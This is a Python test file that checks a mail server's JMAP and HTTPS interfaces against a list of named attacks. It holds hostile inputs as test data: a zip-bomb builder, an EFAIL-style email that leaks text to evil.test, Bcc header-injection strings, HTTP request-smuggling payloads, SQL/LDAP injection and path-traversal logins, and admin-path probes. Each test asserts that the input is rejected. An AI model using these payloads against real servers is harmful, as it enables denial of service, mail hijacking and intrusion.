"""attacks.md D7, D11, E12, F12, F16 and F17 against a running server: what comes by JMAP and HTTPS stays data."""
import base64
import io
import json
import socket
import ssl
import unittest
import zipfile

from attacks_imap_test import settled_rss
from cases import JSON, JmapCase

USING = ["urn:ietf:params:jmap:core", "urn:ietf:params:jmap:mail"]


def bomb():
    """A megabyte that unpacks to a gigabyte: zeros in a zip in a zip."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as packed:
        for i in range(16):
            packed.writestr(f"{i}", bytes(64 << 20))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("inner.zip", inner.getvalue())
    return outer.getvalue()


class Web(JmapCase):
    def call(self, name, user="alice@blue.test", **arguments):
        said, answer, _ = self.api([[name, {"accountId": self.account(user), **arguments}, "0"]], user, USING)["methodResponses"][0]
        return answer if said == name else {"error": answer}

    def mailbox(self, role):
        return self.call("Mailbox/query", filter={"role": role})["ids"][0]

    def append(self, message):
        imap = self.server.imap("alice@blue.test")
        self.assertEqual("OK", imap.append("INBOX", None, None, message)[0])
        imap.logout()
        return self.call("Email/query", filter={"inMailbox": self.mailbox("inbox")}, sort=[{"property": "receivedAt", "isAscending": False}])["ids"][0]

    def plain_https(self, *pieces):
        """What comes back to bytes that no client of HTTP would send, until the server has nothing more to say."""
        with socket.create_connection((self.server.address, self.server.ports["https"]), timeout=20) as raw, self.server.tls().wrap_socket(raw, server_hostname=self.server.address) as tls:
            for piece in pieces:
                tls.sendall(piece)
            said = b""
            try:
                while got := tls.recv(65536):
                    said += got
            except (ConnectionError, ssl.SSLError):
                pass
            return said

    def test_D7_archives_are_never_unpacked(self):
        before = settled_rss(self.server)
        packed = bomb()
        self.assertLess(len(packed), 1 << 20)
        email = self.append(b"From: s@good.test\r\nTo: alice@blue.test\r\nSubject: packed\r\nMIME-Version: 1.0\r\nContent-Type: application/zip; name=a.zip\r\n"
                            b"Content-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(packed).replace(b"\n", b"\r\n"))
        got = self.call("Email/get", ids=[email], properties=["attachments", "hasAttachment", "preview"])["list"][0]
        self.assertEqual(got["attachments"][0]["size"], len(packed))
        self.call("Email/query", filter={"text": "inner"})
        self.assertLess(settled_rss(self.server) - before, 64 << 20)

    def test_D11_markup_does_not_reach_from_one_part_into_the_next(self):
        # EFAIL's direct way: an attribute that one part opens and a later one closes would carry the part between them outside.
        email = self.append(b"From: s@good.test\r\nTo: alice@blue.test\r\nSubject: efail\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
                            b'--b\r\nContent-Type: text/html\r\n\r\n<p>open</p><img src="https://evil.test/\r\n'
                            b"--b\r\nContent-Type: text/plain\r\n\r\nthe secret text\r\n"
                            b'--b\r\nContent-Type: text/html\r\n\r\n"><p>closed</p>\r\n--b--\r\n')
        answer, page = self.ask("GET", f"/body/{self.account()}/{email}?images=1")
        self.assertEqual(answer.status, 200, page)
        self.assertIn(b"open", page)
        for gone in (b"evil.test", b"secret%20text", b"<img"):
            self.assertNotIn(gone, page)
        self.assertIn("default-src 'none'", answer.headers["Content-Security-Policy"])

    def test_E12_line_ends_in_what_the_webmail_sends_reach_no_header_and_no_command(self):
        drafts = self.mailbox("drafts")
        bare = {"mailboxIds": {drafts: True}, "textBody": [{"partId": "t"}], "bodyValues": {"t": {"value": "x"}}}
        hostile = [
            {"subject": "a\rBcc: x@evil.test"}, {"subject": "a\nBcc: x@evil.test"}, {"subject": "a\r\nBcc: x@evil.test\r\n\r\nbody"}, {"subject": "a\0b"},
            {"from": [{"name": "a\r\nBcc: x@evil.test", "email": "alice@blue.test"}]}, {"to": [{"name": "a", "email": "bob@blue.test>\r\nBcc: <x@evil.test"}]},
            {"messageId": ["a@b\r\nBcc: x@evil.test"]}, {"header:X-Note": " a\r\nBcc: x@evil.test"}, {"header:X-Note:asText": "a\nBcc: x@evil.test"},
            {"header:X\r\nBcc: x@evil.test:asText": "a"},
            {"textBody": [{"partId": "t", "type": "text/plain\r\nBcc: x@evil.test"}]}, {"textBody": [{"partId": "t", "name": "a\r\nBcc: x@evil.test", "disposition": "inline"}]},
            {"textBody": [{"partId": "t", "cid": "a>\r\nBcc: <x@evil.test"}]}, {"textBody": [{"partId": "t", "language": ["en\r\nBcc: x@evil.test"]}]},
            {"textBody": [{"partId": "t", "location": "a\r\nBcc: x@evil.test"}]},
        ]
        for i, change in enumerate(hostile):
            with self.subTest(change=change):
                made = self.call("Email/set", create={"d": {**bare, **change}})
                if "d" not in (made.get("created") or {}):
                    self.assertIn((made.get("notCreated") or {}).get("d", made.get("error", {})).get("type"), ("invalidProperties", "invalidArguments"), made)
                    continue
                # Taken: then as text within its field, and nothing else came of it.
                answer, message = self.ask("GET", f"/jmap/download/{self.account()}/{made['created']['d']['blobId']}/m?type=message/rfc822")
                self.assertEqual(answer.status, 200)
                names = [line.split(b":")[0].lower() for line in message.split(b"\r\n\r\n")[0].split(b"\r\n") if not line.startswith((b" ", b"\t"))]
                self.assertNotIn(b"bcc", names, message)
        for name in ("a\r\nx LOGOUT", "a\nb", "a\rb", "a\0b"):
            with self.subTest(mailbox=name):
                made = self.call("Mailbox/set", create={"m": {"name": name}})
                self.assertEqual(made["notCreated"]["m"]["type"], "invalidProperties", made)
        email = self.append(b"From: s@good.test\r\nSubject: k\r\n\r\nx\r\n")
        for keyword in ("a\r\nb", "a b", "a(", "*", "%"):
            with self.subTest(keyword=keyword):
                changed = self.call("Email/set", update={email: {f"keywords/{keyword}": True}})
                self.assertEqual(changed["notUpdated"][email]["type"], "invalidProperties", changed)
        # What two views see of the account after all that is the same.
        imap = self.server.imap("alice@blue.test")
        self.assertEqual(len(imap.list()[1]), len(self.call("Mailbox/get", ids=None)["list"]))
        imap.logout()

    def test_F12_what_two_readers_could_read_in_two_ways_is_refused_and_ends_the_connection(self):
        line, secret = b"POST /jmap/api HTTP/1.1\r\nHost: a\r\n", b"GET /.well-known/jmap HTTP/1.1\r\nHost: a\r\n\r\n"
        for fields in (b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", b"Content-Length: 4\r\nContent-Length: 5\r\n", b"Transfer-Encoding: xchunked\r\n",
                       b"Transfer-Encoding : chunked\r\n", b"X: a\r\n b\r\n", b"X: a\nY: b\r\n", b"Content-Length: +4\r\n"):
            with self.subTest(fields=fields):
                said = self.plain_https(line + fields + b"\r\n0\r\n\r\n" + secret)
                self.assertRegex(said, rb"^HTTP/1.1 (400|501) ")
                self.assertEqual(said.count(b"HTTP/1.1 "), 1, "what stands behind was read as a request")

    def test_F16_names_are_never_part_of_a_query(self):
        for user in ("' OR 1=1--", "*)(uid=*", "alice@blue.test' --", "alice@blue.test\0", "%@blue.test", "alice@*", "../alice@blue.test"):
            with self.subTest(user=user):
                answer, _ = self.ask("GET", "/.well-known/jmap", headers={"Authorization": "Basic " + base64.b64encode(f"{user}:{self.password}".encode()).decode()}, user=None)
                self.assertEqual(answer.status, 401)
        for text in ("' OR '1'='1", "\\", "\"", "*", "%", "a\0b"):
            self.assertNotIn("error", self.call("Email/query", filter={"subject": text}), text)

    def test_F17_nothing_on_the_network_administers(self):
        # What the command line does goes over the control socket (F24); no path, method or login over HTTPS leads there.
        for path in ("/admin", "/api", "/admin/api", "/control", "/config", "/queue", "/accounts", "/reload", "/metrics", "/debug", "/.env", "/posthorn.toml"):
            for method in ("GET", "POST", "PUT", "DELETE"):
                answer, data = self.ask(method, path, b"" if method != "GET" else None)
                self.assertIn(answer.status, (404, 405), f"{method} {path}")
                self.assertNotIn(b"[server]", data)
        with self.subTest("capabilities"):
            told = json.dumps(self.session())
            self.assertNotIn("admin", told.lower())


if __name__ == "__main__":
    unittest.main()
